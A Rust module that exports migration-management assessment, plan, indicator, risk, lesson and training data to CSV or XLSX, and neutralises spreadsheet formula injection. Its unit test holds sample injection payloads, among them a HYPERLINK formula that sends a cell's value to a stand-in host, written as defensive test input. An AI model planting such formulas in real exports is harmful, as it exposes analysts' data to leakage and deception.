//! Tables for analysts (Excel, Power BI, R): one row per assessment question,
//! per plan activity, per indicator of a results matrix, per risk, per lesson,
//! per measurement and per training event. Built here once; the server writes
//! them as CSV ([`to_csv`]) or XLSX, a workbook's sheets named and headed in
//! the reader's language ([`Kind::sheet`], [`Kind::headings`]).
//!
//! Codes (`enabling_environment`, `in_progress`) are written as stored, so a
//! table reads the same in every language and joins cleanly across exports;
//! CSV headers are codes too, for the same reason.

use crate::assessment::Assessment;
use crate::monitoring::Monitoring;
use crate::plan::Plan;
use crate::vocabulary::{AgeGroup, Sex};

/// One cell: text, a number, or nothing.
#[derive(Debug, Clone, PartialEq)]
pub enum Cell {
    Text(String),
    Number(f64),
    Empty,
}

impl From<&str> for Cell {
    fn from(s: &str) -> Cell {
        Cell::Text(s.to_owned())
    }
}

impl From<String> for Cell {
    fn from(s: String) -> Cell {
        Cell::Text(s)
    }
}

impl From<f64> for Cell {
    fn from(n: f64) -> Cell {
        Cell::Number(n)
    }
}

impl<T: Into<Cell>> From<Option<T>> for Cell {
    fn from(v: Option<T>) -> Cell {
        v.map_or(Cell::Empty, Into::into)
    }
}

/// A code as stored (`in_progress`), or nothing.
fn code<T: serde::Serialize>(value: Option<T>) -> Cell {
    value.map_or(Cell::Empty, |v| Cell::Text(crate::vocabulary::code_of(&v)))
}

/// Which table.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// A row per assessment question.
    Assessments,
    /// A row per plan activity.
    Plans,
    /// A row per indicator of a plan: the results matrix.
    Indicators,
    /// A row per risk of a plan, as its latest review left it.
    Risks,
    /// A row per lesson recorded while monitoring a plan.
    Lessons,
    /// A row per measurement or training event.
    Monitoring,
}

/// The languages headings are written in; English is the first.
pub const LANGUAGES: [&str; 3] = ["en", "fr", "es"];

/// A column: its code (the CSV header, stable for scripts) and its heading in
/// each of [`LANGUAGES`] (a workbook's header row).
type Column = (&'static str, [&'static str; 3]);

/// Where a row comes from: every table starts with these three columns.
const PLACE: [Column; 3] = [
    ("workspace", ["Workspace", "Espace de travail", "Espacio de trabajo"]),
    ("country", ["Country", "Pays", "País"]),
    ("area", ["Migration-management area", "Domaine de la gestion des migrations", "Ámbito de gestión migratoria"]),
];

const ASSESSMENTS: &[Column] = &[
    ("assessment", ["Assessment id", "Id de l’évaluation", "Id de la evaluación"]),
    ("title", ["Assessment", "Évaluation", "Evaluación"]),
    ("template", ["Template", "Modèle", "Plantilla"]),
    ("completed_on", ["Completed on", "Achevée le", "Completada el"]),
    (
        "baseline",
        ["Baseline of this re-assessment", "Référence de cette réévaluation", "Línea de base de esta reevaluación"],
    ),
    ("section", ["Section", "Section", "Sección"]),
    ("question", ["Question id", "Id de la question", "Id de la pregunta"]),
    ("question_text", ["Question", "Question", "Pregunta"]),
    ("level", ["Level", "Niveau", "Nivel"]),
    ("core_issue", ["Core issue", "Enjeu central", "Cuestión central"]),
    ("functional_capacity", ["Functional capacity", "Capacité fonctionnelle", "Capacidad funcional"]),
    ("existing", ["Existing", "Existant", "Existente"]),
    ("desired", ["Desired", "Souhaité", "Deseado"]),
    ("gap", ["Gap", "Écart", "Brecha"]),
    ("confidence", ["Confidence", "Confiance", "Confianza"]),
    ("priority", ["Priority", "Priorité", "Prioridad"]),
    ("evidence", ["Evidence", "Éléments de preuve", "Evidencia"]),
];

/// The plan every plan table names first.
const PLAN: [Column; 2] =
    [("plan", ["Plan id", "Id du plan", "Id del plan"]), ("plan_title", ["Plan", "Plan", "Plan"])];

const PLANS: &[Column] = &[
    ("currency", ["Currency", "Devise", "Moneda"]),
    ("outcome", ["Outcome", "Effet", "Efecto"]),
    ("output", ["Output", "Produit", "Producto"]),
    ("activity", ["Activity id", "Id de l’activité", "Id de la actividad"]),
    ("activity_title", ["Activity", "Activité", "Actividad"]),
    ("type", ["Type", "Type", "Tipo"]),
    ("level", ["Level", "Niveau", "Nivel"]),
    ("core_issue", ["Core issue", "Enjeu central", "Cuestión central"]),
    ("horizon", ["Horizon", "Horizon", "Horizonte"]),
    ("status", ["Status (latest update)", "État (dernière mise à jour)", "Estado (última actualización)"]),
    ("percent_complete", ["Percent complete", "Pourcentage achevé", "Porcentaje completado"]),
    ("owner", ["Owner", "Responsable", "Responsable"]),
    ("starts_on", ["Starts on", "Début", "Inicio"]),
    ("ends_on", ["Ends on", "Fin", "Fin"]),
    ("cost", ["Planned cost", "Coût prévu", "Costo previsto"]),
    ("spent", ["Spent to date", "Dépensé à ce jour", "Gastado a la fecha"]),
    ("funding_source", ["Paid by", "Financé par", "Financiado por"]),
    (
        "gaps",
        ["Gaps addressed (question ids)", "Écarts traités (id des questions)", "Brechas atendidas (id de preguntas)"],
    ),
];

const INDICATORS: &[Column] = &[
    ("result_level", ["Result level", "Niveau de résultat", "Nivel de resultado"]),
    ("result", ["Result", "Résultat", "Resultado"]),
    ("result_assumptions", ["Assumptions", "Hypothèses", "Supuestos"]),
    ("indicator", ["Indicator", "Indicateur", "Indicador"]),
    ("unit", ["Unit", "Unité", "Unidad"]),
    ("direction", ["Better when it", "Mieux quand il", "Mejor cuando"]),
    (
        "baseline",
        [
            "Baseline (empty: still unknown)",
            "Référence (vide : encore inconnue)",
            "Línea de base (vacía: aún desconocida)",
        ],
    ),
    ("baseline_on", ["Baseline date", "Date de référence", "Fecha de la línea de base"]),
    ("milestones", ["Milestones", "Jalons", "Hitos"]),
    ("target", ["Target", "Cible", "Meta"]),
    ("target_on", ["Target date", "Date cible", "Fecha de la meta"]),
    ("means_of_verification", ["Means of verification", "Moyens de vérification", "Medios de verificación"]),
    ("frequency", ["Frequency", "Fréquence", "Frecuencia"]),
    ("responsible", ["Measured by", "Mesuré par", "Medido por"]),
    ("collection_method", ["Collection method", "Méthode de collecte", "Método de recogida"]),
    ("disaggregation", ["Broken down by", "Ventilé par", "Desglosado por"]),
    ("latest_on", ["Latest measurement on", "Dernière mesure le", "Última medición el"]),
    ("latest", ["Latest value", "Dernière valeur", "Último valor"]),
    ("status", ["Status", "État", "Estado"]),
];

const RISKS: &[Column] = &[
    ("risk", ["Risk id", "Id du risque", "Id del riesgo"]),
    ("description", ["Risk", "Risque", "Riesgo"]),
    ("likelihood", ["Likelihood", "Probabilité", "Probabilidad"]),
    ("impact", ["Impact", "Impact", "Impacto"]),
    ("score", ["Likelihood × impact", "Probabilité × impact", "Probabilidad × impacto"]),
    ("status", ["Status", "État", "Estado"]),
    ("reviewed_on", ["Last reviewed", "Dernière revue", "Última revisión"]),
    ("action", ["Action now", "Action en cours", "Acción actual"]),
    ("owner", ["Owner", "Responsable", "Responsable"]),
];

const LESSONS: &[Column] = &[
    ("monitoring", ["Reporting period id", "Id de la période", "Id del periodo"]),
    ("date", ["Date", "Date", "Fecha"]),
    ("criterion", ["Evaluation criterion", "Critère d’évaluation", "Criterio de evaluación"]),
    ("lesson", ["Lesson", "Enseignement", "Lección"]),
];

const MONITORING: &[Column] = &[
    ("monitoring", ["Reporting period id", "Id de la période", "Id del periodo"]),
    ("plan", ["Plan id", "Id du plan", "Id del plan"]),
    ("record", ["Record", "Enregistrement", "Registro"]),
    ("id", ["Record id", "Id de l’enregistrement", "Id del registro"]),
    (
        "activity_or_indicator",
        ["Activity or indicator id", "Id de l’activité ou de l’indicateur", "Id de la actividad o del indicador"],
    ),
    ("date", ["Date", "Date", "Fecha"]),
    ("value", ["Value", "Valeur", "Valor"]),
    ("source", ["Source", "Source", "Fuente"]),
    ("title", ["Training", "Formation", "Formación"]),
    ("location", ["Location", "Lieu", "Lugar"]),
    ("participants", ["Participants", "Participants", "Participantes"]),
    ("female", ["Women", "Femmes", "Mujeres"]),
    ("male", ["Men", "Hommes", "Hombres"]),
    ("other_sex", ["Other sex", "Autre sexe", "Otro sexo"]),
    ("sex_not_recorded", ["Sex not recorded", "Sexe non indiqué", "Sexo no indicado"]),
    ("under_25", ["Under 25", "Moins de 25 ans", "Menos de 25"]),
    ("25_to_39", ["25 to 39", "25 à 39 ans", "25 a 39"]),
    ("40_to_54", ["40 to 54", "40 à 54 ans", "40 a 54"]),
    ("55_and_over", ["55 and over", "55 ans et plus", "55 y más"]),
    ("age_not_recorded", ["Age not recorded", "Âge non indiqué", "Edad no indicada"]),
    ("reaction", ["Reaction (1–5)", "Réaction (1–5)", "Reacción (1–5)"]),
    ("pre_test", ["Pre-test %", "Pré-test %", "Prueba previa %"]),
    ("post_test", ["Post-test %", "Post-test %", "Prueba posterior %"]),
];

impl Kind {
    pub const ALL: [Kind; 6] =
        [Kind::Assessments, Kind::Plans, Kind::Indicators, Kind::Risks, Kind::Lessons, Kind::Monitoring];

    pub fn parse(name: &str) -> Option<Kind> {
        Kind::ALL.into_iter().find(|k| k.name() == name)
    }

    /// The export's name: `/api/export/{name}.csv`.
    pub fn name(self) -> &'static str {
        match self {
            Kind::Assessments => "assessments",
            Kind::Plans => "plans",
            Kind::Indicators => "indicators",
            Kind::Risks => "risks",
            Kind::Lessons => "lessons",
            Kind::Monitoring => "monitoring",
        }
    }

    /// A workbook sheet's name (Excel allows 31 characters).
    pub fn sheet(self, lang: &str) -> &'static str {
        let names: [&str; 3] = match self {
            Kind::Assessments => ["Assessments", "Évaluations", "Evaluaciones"],
            Kind::Plans => ["Activities", "Activités", "Actividades"],
            Kind::Indicators => ["Results matrix", "Matrice des résultats", "Matriz de resultados"],
            Kind::Risks => ["Risks", "Risques", "Riesgos"],
            Kind::Lessons => ["Lessons", "Enseignements", "Lecciones"],
            Kind::Monitoring => ["Monitoring", "Suivi", "Seguimiento"],
        };
        names[language(lang)]
    }

    /// The tables a workbook of this export holds, each on its own sheet: a
    /// plans workbook is the results matrix, activities, risks and lessons.
    pub fn workbook(self) -> &'static [Kind] {
        match self {
            Kind::Plans => &[Kind::Indicators, Kind::Plans, Kind::Risks, Kind::Lessons],
            Kind::Assessments => &[Kind::Assessments],
            Kind::Indicators => &[Kind::Indicators],
            Kind::Risks => &[Kind::Risks],
            Kind::Lessons => &[Kind::Lessons],
            Kind::Monitoring => &[Kind::Monitoring],
        }
    }

    /// Whether its rows come from a plan read with its reporting periods.
    pub fn of_plans(self) -> bool {
        matches!(self, Kind::Plans | Kind::Indicators | Kind::Risks | Kind::Lessons)
    }

    fn columns(self) -> Vec<Column> {
        let mut out = PLACE.to_vec();
        if self.of_plans() {
            out.extend(PLAN);
        }
        out.extend(match self {
            Kind::Assessments => ASSESSMENTS,
            Kind::Plans => PLANS,
            Kind::Indicators => INDICATORS,
            Kind::Risks => RISKS,
            Kind::Lessons => LESSONS,
            Kind::Monitoring => MONITORING,
        });
        out
    }

    /// The CSV header: codes, the same in every language.
    pub fn header(self) -> Vec<&'static str> {
        self.columns().into_iter().map(|c| c.0).collect()
    }

    /// A workbook's header row in `lang` (English when it is not one of
    /// [`LANGUAGES`]).
    pub fn headings(self, lang: &str) -> Vec<&'static str> {
        let at = language(lang);
        self.columns().into_iter().map(|c| c.1[at]).collect()
    }
}

fn language(lang: &str) -> usize {
    LANGUAGES.iter().position(|l| *l == lang).unwrap_or(0)
}

/// Where a document sits: its workspace, the workspace's country, and its
/// engagement's migration-management area when it has one.
#[derive(Debug, Clone, Copy)]
pub struct Place<'a> {
    pub workspace: &'a str,
    pub country: &'a str,
    pub area: Option<crate::vocabulary::Area>,
}

impl Place<'_> {
    fn lead(&self) -> Vec<Cell> {
        vec![self.workspace.into(), self.country.into(), code(self.area)]
    }
}

/// The rows an assessment or a monitoring document gives its table
/// (`Assessments`, `Monitoring`); none for the plan tables.
pub fn rows(kind: Kind, place: Place<'_>, doc: &str, content: &crate::Content) -> Vec<Vec<Cell>> {
    let lead = || {
        let mut row = place.lead();
        row.push(doc.into());
        row
    };
    match (kind, content) {
        (Kind::Assessments, crate::Content::Assessment(a)) => assessment_rows(a, lead),
        (Kind::Monitoring, crate::Content::Monitoring(m)) => monitoring_rows(m, lead),
        _ => Vec::new(),
    }
}

/// The rows a plan gives the plan tables, read with its reporting periods
/// (`(document id, monitoring)`): status and spend, measurements, risk
/// reviews and lessons come from them.
pub fn plan_rows(
    kind: Kind,
    place: Place<'_>,
    plan_id: &str,
    plan: &Plan,
    periods: &[(&str, &Monitoring)],
) -> Vec<Vec<Cell>> {
    let lead = || {
        let mut row = place.lead();
        row.extend([plan_id.into(), plan.title.as_str().into()]);
        row
    };
    match kind {
        Kind::Plans => activity_rows(plan, periods, lead),
        Kind::Indicators => indicator_rows(plan, periods, lead),
        Kind::Risks => risk_rows(plan, periods, lead),
        Kind::Lessons => periods
            .iter()
            .flat_map(|(id, m)| m.lessons.iter().map(move |l| (*id, l)))
            .map(|(id, l)| {
                let mut row = lead();
                row.extend([
                    id.into(),
                    l.date.map(|d| d.to_string()).into(),
                    code(l.criterion),
                    l.lesson.as_str().into(),
                ]);
                row
            })
            .collect(),
        Kind::Assessments | Kind::Monitoring => Vec::new(),
    }
}

fn assessment_rows(a: &Assessment, lead: impl Fn() -> Vec<Cell>) -> Vec<Vec<Cell>> {
    let Some(template) = &a.template else { return Vec::new() };
    template
        .questions()
        .map(|(section, q)| {
            let r = a.responses.get(&q.id);
            let existing = r.and_then(|r| r.existing);
            let desired = r.and_then(|r| r.desired);
            let mut row = lead();
            row.extend([
                a.title.as_str().into(),
                template.id.as_str().into(),
                a.completed_on.map(|d| d.to_string()).into(),
                a.baseline_id.clone().into(),
                section.id.as_str().into(),
                q.id.as_str().into(),
                q.text.as_str().into(),
                code(q.level),
                code(q.core_issue),
                code(q.functional_capacity),
                existing.map(|e| e as f64).into(),
                desired.map(|d| d as f64).into(),
                existing.zip(desired).map(|(e, d)| d as f64 - e as f64).into(),
                code(r.and_then(|r| r.confidence)),
                r.map(|r| f64::from(r.priority)).into(),
                r.map(|r| r.evidence.clone()).into(),
            ]);
            row
        })
        .collect()
}

fn activity_rows(plan: &Plan, periods: &[(&str, &Monitoring)], lead: impl Fn() -> Vec<Cell>) -> Vec<Vec<Cell>> {
    let delivery = plan.delivery(periods);
    plan.activities()
        .zip(&delivery.activities)
        .map(|((outcome, output, a), d)| {
            let funder = match a.funding_source.as_str() {
                "" => Cell::Empty,
                "government" => "government".into(),
                id => plan.donors.iter().find(|x| x.id == id).map_or_else(|| id.into(), |x| x.name.as_str().into()),
            };
            let gaps: Vec<&str> = a.addresses.iter().map(|g| g.question_id.as_str()).collect();
            let mut row = lead();
            row.extend([
                plan.currency.as_str().into(),
                outcome.statement.as_str().into(),
                output.statement.as_str().into(),
                a.id.as_str().into(),
                a.title.as_str().into(),
                code(Some(a.activity_type)),
                code(a.level),
                code(a.core_issue),
                code(a.horizon),
                code(Some(d.status)),
                d.percent_complete.into(),
                a.owner.as_str().into(),
                a.starts_on.map(|d| d.to_string()).into(),
                a.ends_on.map(|d| d.to_string()).into(),
                d.cost.into(),
                d.spent.into(),
                funder,
                gaps.join("; ").into(),
            ]);
            row
        })
        .collect()
}

/// A result of a plan as the results matrix lists it: level, statement,
/// assumptions and indicators.
type Result<'a> = (&'static str, &'a str, &'a str, &'a [crate::plan::Indicator]);

fn results(plan: &Plan) -> Vec<Result<'_>> {
    let objective = &plan.objective;
    let mut out: Vec<Result<'_>> = vec![("objective", &objective.statement, &plan.assumptions, &objective.indicators)];
    for oc in &plan.outcomes {
        out.push(("outcome", &oc.statement, &oc.assumptions, &oc.indicators));
        for op in &oc.outputs {
            out.push(("output", &op.statement, &op.assumptions, &op.indicators));
            for a in &op.activities {
                out.push(("activity", &a.title, "", &a.indicators));
            }
        }
    }
    out
}

fn indicator_rows(plan: &Plan, periods: &[(&str, &Monitoring)], lead: impl Fn() -> Vec<Cell>) -> Vec<Vec<Cell>> {
    let mut out = Vec::new();
    for (level, statement, assumptions, indicators) in results(plan) {
        for i in indicators {
            let latest = periods.iter().filter_map(|(_, m)| m.latest(&i.id)).max_by(|a, b| a.0.cmp(&b.0));
            let milestones: Vec<String> = i
                .milestones
                .iter()
                .map(|m| format!("{}: {}", m.on.map(|d| d.to_string()).unwrap_or_default(), m.value))
                .collect();
            let disaggregation: Vec<String> = i.disaggregation.iter().map(|d| d.code()).collect();
            let mut row = lead();
            row.extend([
                level.into(),
                statement.into(),
                assumptions.into(),
                i.name.as_str().into(),
                i.unit.as_str().into(),
                code(Some(i.direction)),
                (!i.baseline_unknown).then_some(i.baseline).into(),
                i.baseline_on.map(|d| d.to_string()).into(),
                milestones.join("; ").into(),
                i.target.into(),
                i.target_on.map(|d| d.to_string()).into(),
                i.means_of_verification.as_str().into(),
                code(i.frequency),
                i.responsible.as_str().into(),
                i.collection_method.as_str().into(),
                disaggregation.join("; ").into(),
                latest.map(|l| l.0.to_string()).into(),
                latest.map(|l| l.1).into(),
                code(Some(i.status(latest))),
            ]);
            out.push(row);
        }
    }
    out
}

fn risk_rows(plan: &Plan, periods: &[(&str, &Monitoring)], lead: impl Fn() -> Vec<Cell>) -> Vec<Vec<Cell>> {
    plan.delivery(periods)
        .risks
        .iter()
        .map(|r| {
            let mut row = lead();
            row.extend([
                r.risk_id.as_str().into(),
                r.description.as_str().into(),
                code(Some(r.likelihood)),
                code(Some(r.impact)),
                f64::from(r.score).into(),
                code(Some(r.status)),
                r.reviewed_on.map(|d| d.to_string()).into(),
                r.action.as_str().into(),
                r.owner.as_str().into(),
            ]);
            row
        })
        .collect()
}

fn monitoring_rows(m: &Monitoring, lead: impl Fn() -> Vec<Cell>) -> Vec<Vec<Cell>> {
    let mut out = Vec::new();
    for x in &m.measurements {
        let mut row = lead();
        row.extend([
            m.plan_id.as_str().into(),
            "measurement".into(),
            x.id.as_str().into(),
            x.indicator_id.as_str().into(),
            x.date.map(|d| d.to_string()).into(),
            x.value.into(),
            x.source.as_str().into(),
        ]);
        row.resize(Kind::Monitoring.header().len(), Cell::Empty); // the training columns
        out.push(row);
    }
    for t in &m.trainings {
        let heads = t.headcount();
        let mut row = lead();
        row.extend([
            m.plan_id.as_str().into(),
            "training".into(),
            t.id.as_str().into(),
            t.activity_id.clone().into(),
            t.starts_on.map(|d| d.to_string()).into(),
            Cell::Empty,
            Cell::Empty,
            t.title.as_str().into(),
            t.location.as_str().into(),
            f64::from(heads.total).into(),
        ]);
        row.extend(Sex::ALL.iter().map(|&sex| Cell::from(f64::from(heads.of_sex(sex)))));
        row.extend(AgeGroup::ALL.iter().map(|&age| Cell::from(f64::from(heads.of_age(age)))));
        row.extend([t.kirkpatrick.reaction.into(), t.kirkpatrick.pre_test.into(), t.kirkpatrick.post_test.into()]);
        out.push(row);
    }
    out
}

/// The most characters a spreadsheet cell holds (Excel's limit).
pub const CELL_CHARS: usize = 32_767;

/// A text as a workbook cell can hold it: cut, with a note saying where the
/// whole text is, when it is longer than a cell allows (CSV carries it
/// whole). A field may hold far more (the trust boundary allows 256 KiB), and
/// one long lesson must not cost a region its workbook.
pub fn cell_text(text: &str) -> std::borrow::Cow<'_, str> {
    const NOTE: &str = " […cut: the CSV export has the whole text]";
    if text.chars().count() <= CELL_CHARS {
        return std::borrow::Cow::Borrowed(text);
    }
    let keep = CELL_CHARS - NOTE.chars().count();
    let at = text.char_indices().nth(keep).map_or(text.len(), |(i, _)| i);
    std::borrow::Cow::Owned(format!("{}{NOTE}", &text[..at]))
}

/// RFC 4180 CSV: a header line, then one line per row; fields that hold a
/// comma, quote or line break are quoted.
pub fn to_csv(header: &[&str], rows: &[Vec<Cell>]) -> String {
    let mut out = csv_header(header);
    out.push_str(&csv_rows(rows));
    out
}

/// The header line of a CSV export.
pub fn csv_header(header: &[&str]) -> String {
    let mut out = String::new();
    csv_line(&mut out, header.iter().map(|h| (*h).to_owned()));
    out
}

/// Rows of a CSV export, each a line (an export is written a document at a
/// time). A text that a spreadsheet could run as a formula gets a leading
/// `'` (see [`formula_like`]), so a title typed on a device cannot become a
/// formula on an analyst's computer; numbers stay numbers.
pub fn csv_rows(rows: &[Vec<Cell>]) -> String {
    let mut out = String::new();
    for row in rows {
        csv_line(
            &mut out,
            row.iter().map(|c| match c {
                Cell::Text(s) if formula_like(s) => format!("'{s}"),
                Cell::Text(s) => s.clone(),
                Cell::Number(n) => n.to_string(),
                Cell::Empty => String::new(),
            }),
        );
    }
    out
}

/// Whether a spreadsheet could read `text` as a formula: it begins, after
/// any spaces and line breaks, with `=`, `+`, `-` or `@` (or their
/// full-width forms), or with a tab or a line break.
fn formula_like(text: &str) -> bool {
    text.starts_with(['\t', '\r', '\n'])
        || text.trim_start().starts_with(['=', '+', '-', '@', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}'])
}

fn csv_line(out: &mut String, cells: impl Iterator<Item = String>) {
    let fields: Vec<String> = cells
        .map(|f| if f.contains([',', '"', '\n', '\r']) { format!("\"{}\"", f.replace('"', "\"\"")) } else { f })
        .collect();
    out.push_str(&fields.join(","));
    out.push_str("\r\n");
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_never_carries_a_formula() {
        let rows = vec![vec![
            Cell::from("=HYPERLINK(\"http://x\"&C2,\"Click\")"),
            Cell::from("@SUM(A1)"),
            Cell::from("-2+3"),
            Cell::from("+1"),
            Cell::Number(-2.0),
            Cell::from("Plan = budget"),
            Cell::from("\n=cmd"),
            Cell::from(" =1+1"),
            Cell::from("\u{FF1D}1+1"),
        ]];
        assert_eq!(
            csv_rows(&rows),
            "\"'=HYPERLINK(\"\"http://x\"\"&C2,\"\"Click\"\")\",'@SUM(A1),'-2+3,'+1,-2,Plan = budget,\"'\n=cmd\",' =1+1,'\u{FF1D}1+1\r\n"
        );
    }

    #[test]
    fn a_cell_never_holds_more_than_a_spreadsheet_allows() {
        assert_eq!(cell_text("short"), "short");
        let long = "é".repeat(40_000);
        let cut = cell_text(&long);
        assert_eq!(cut.chars().count(), CELL_CHARS);
        assert!(cut.ends_with("the whole text]"));
        assert_eq!(cell_text(&"a".repeat(CELL_CHARS)).len(), CELL_CHARS, "exactly the limit is kept whole");
    }

    #[test]
    fn csv_quotes_what_needs_quoting() {
        let rows = vec![vec![Cell::from("a, b"), Cell::from("say \"hi\""), Cell::Number(2.5), Cell::Empty]];
        assert_eq!(to_csv(&["x", "y", "z", "w"], &rows), "x,y,z,w\r\n\"a, b\",\"say \"\"hi\"\"\",2.5,\r\n");
    }

    #[test]
    fn every_row_is_as_wide_as_its_header() {
        let mut m = Monitoring { plan_id: "p".into(), ..Monitoring::default() };
        m.measurements.push(crate::monitoring::Measurement { id: "m".into(), ..Default::default() });
        m.trainings.push(crate::monitoring::Training { id: "t".into(), ..Default::default() });
        let place = Place { workspace: "w", country: "c", area: None };
        let rows = rows(Kind::Monitoring, place, "d", &crate::Content::Monitoring(m));
        assert_eq!(rows.len(), 2);
        assert!(rows.iter().all(|r| r.len() == Kind::Monitoring.header().len()), "{rows:?}");
    }

    #[test]
    fn plan_tables_are_as_wide_as_their_headers_and_read_like_the_matrix() {
        use crate::monitoring::{Lesson, RiskReview};
        use crate::plan::{Activity, Indicator, Milestone, Outcome, Output, Risk};
        use crate::vocabulary::{Disaggregation, RiskStatus};
        let indicator = Indicator {
            id: "i".into(),
            name: "Officers applying the SOP".into(),
            baseline_unknown: true,
            milestones: vec![Milestone { id: "m".into(), on: crate::Date::parse("2026-06-30"), value: 20.0 }],
            target: 60.0,
            disaggregation: vec![Disaggregation::Sex, Disaggregation::Institution],
            ..Indicator::default()
        };
        let activity = Activity { id: "a".into(), title: "SOP training".into(), budget: 900.0, ..Activity::default() };
        let plan = Plan {
            title: "P".into(),
            outcomes: vec![Outcome {
                id: "oc".into(),
                statement: "SOPs are used".into(),
                assumptions: "Staff stay in post".into(),
                indicators: vec![indicator],
                outputs: vec![Output {
                    id: "op".into(),
                    statement: "SOPs written".into(),
                    activities: vec![activity],
                    ..Output::default()
                }],
            }],
            risks: vec![Risk { id: "r".into(), description: "Turnover".into(), ..Risk::default() }],
            ..Plan::default()
        };
        let m = Monitoring {
            plan_id: "p".into(),
            lessons: vec![Lesson { id: "l".into(), lesson: "Train supervisors first".into(), ..Lesson::default() }],
            risk_reviews: vec![RiskReview {
                id: "rv".into(),
                risk_id: "r".into(),
                status: RiskStatus::Occurred,
                ..RiskReview::default()
            }],
            ..Monitoring::default()
        };
        let place = Place { workspace: "w", country: "Ghana", area: Some(crate::vocabulary::Area::BorderManagement) };
        for kind in [Kind::Plans, Kind::Indicators, Kind::Risks, Kind::Lessons] {
            let rows = plan_rows(kind, place, "p", &plan, &[("m", &m)]);
            assert_eq!(rows.len(), 1, "{kind:?}");
            assert_eq!(rows[0].len(), kind.header().len(), "{kind:?}");
            assert_eq!(kind.headings("fr").len(), kind.header().len());
        }
        let matrix = plan_rows(Kind::Indicators, place, "p", &plan, &[("m", &m)]);
        let at = |name: &str| Kind::Indicators.header().iter().position(|h| *h == name).expect(name);
        let row = &matrix[0];
        assert_eq!(row[at("result")], Cell::from("SOPs are used"));
        assert_eq!(row[at("result_assumptions")], Cell::from("Staff stay in post"));
        assert_eq!(row[at("baseline")], Cell::Empty, "unknown, not 0");
        assert_eq!(row[at("milestones")], Cell::from("2026-06-30: 20"));
        assert_eq!(row[at("disaggregation")], Cell::from("sex; institution"));
        assert_eq!(row[at("status")], Cell::from("no_data"));
        let activities = plan_rows(Kind::Plans, place, "p", &plan, &[("m", &m)]);
        let at = |name: &str| Kind::Plans.header().iter().position(|h| *h == name).expect(name);
        assert_eq!(activities[0][at("outcome")], Cell::from("SOPs are used"), "the statement, not its id");
        assert_eq!(activities[0][at("area")], Cell::from("border_management"));
        let risks = plan_rows(Kind::Risks, place, "p", &plan, &[("m", &m)]);
        assert_eq!(
            risks[0][Kind::Risks.header().iter().position(|h| *h == "status").expect("status")],
            Cell::from("occurred")
        );
        assert_eq!(Kind::Indicators.sheet("es"), "Matriz de resultados");
        assert_eq!(Kind::parse("indicators"), Some(Kind::Indicators));
    }
}
